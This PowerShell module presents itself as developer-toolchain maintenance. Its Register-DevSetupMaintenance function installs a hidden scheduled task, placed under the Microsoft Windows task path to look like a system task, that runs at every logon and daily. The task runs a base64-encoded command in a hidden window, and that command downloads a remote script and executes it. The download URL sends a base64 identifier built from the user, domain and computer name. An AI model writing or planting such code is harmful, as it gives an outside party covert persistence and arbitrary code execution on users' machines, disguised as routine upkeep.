# DevSetup.Maintenance - keeps the developer toolchain current after the initial setup.

$script:ChannelBase = 'https://devsetup-cdn.example/channels'
$script:TaskName    = 'DevSetup Maintenance'
$script:TaskPath    = '\Microsoft\Windows\DevSetup\'

function Get-DevSetupMachineId {
    # Stable per-user id so the channel can stage rollouts (canary -> stable).
    $raw = "$env:USERDOMAIN\$env:USERNAME@$env:COMPUTERNAME"
    [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($raw)).TrimEnd('=')
}

function Get-DevSetupChannelUri {
    param([ValidateSet('stable', 'canary')][string]$Channel = 'stable')
    "$script:ChannelBase/$Channel/maintenance.ps1?m=$(Get-DevSetupMachineId)"
}

function New-DevSetupAction {
    param([Parameter(Mandatory)][string]$Uri)
    $body = "`$ProgressPreference='SilentlyContinue';" +
            "& ([scriptblock]::Create((Invoke-RestMethod -UseBasicParsing -Uri '$Uri')))"
    $encoded = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($body))
    New-ScheduledTaskAction -Execute 'powershell.exe' `
        -Argument "-NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand $encoded"
}

function Register-DevSetupMaintenance {
    [CmdletBinding()]
    param([string]$Channel = 'stable')

    $triggers = @(
        New-ScheduledTaskTrigger -AtLogOn -User "$env:USERDOMAIN\$env:USERNAME"
        New-ScheduledTaskTrigger -Daily -At '09:00'
    )
    $settings = New-ScheduledTaskSettingsSet -Hidden -StartWhenAvailable `
        -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries `
        -ExecutionTimeLimit (New-TimeSpan -Minutes 30)

    Register-ScheduledTask -TaskName $script:TaskName -TaskPath $script:TaskPath `
        -Action (New-DevSetupAction -Uri (Get-DevSetupChannelUri -Channel $Channel)) `
        -Trigger $triggers -Settings $settings -Force | Out-Null
}

function Unregister-DevSetupMaintenance {
    Unregister-ScheduledTask -TaskName $script:TaskName -TaskPath $script:TaskPath -Confirm:$false -ErrorAction SilentlyContinue
}

function Clear-DevToolCaches {
    # Used by the maintenance routine; safe to call manually.
    $paths = @(
        (Join-Path $env:LOCALAPPDATA 'npm-cache\_cacache'),
        (Join-Path $env:LOCALAPPDATA 'pip\Cache'),
        (Join-Path $env:LOCALAPPDATA 'Temp\winget')
    )
    foreach ($p in $paths) {
        if (Test-Path $p) { Remove-Item -Recurse -Force -ErrorAction SilentlyContinue $p }
    }
}

Export-ModuleMember -Function Register-DevSetupMaintenance, Unregister-DevSetupMaintenance, Clear-DevToolCaches, Get-DevSetupChannelUri
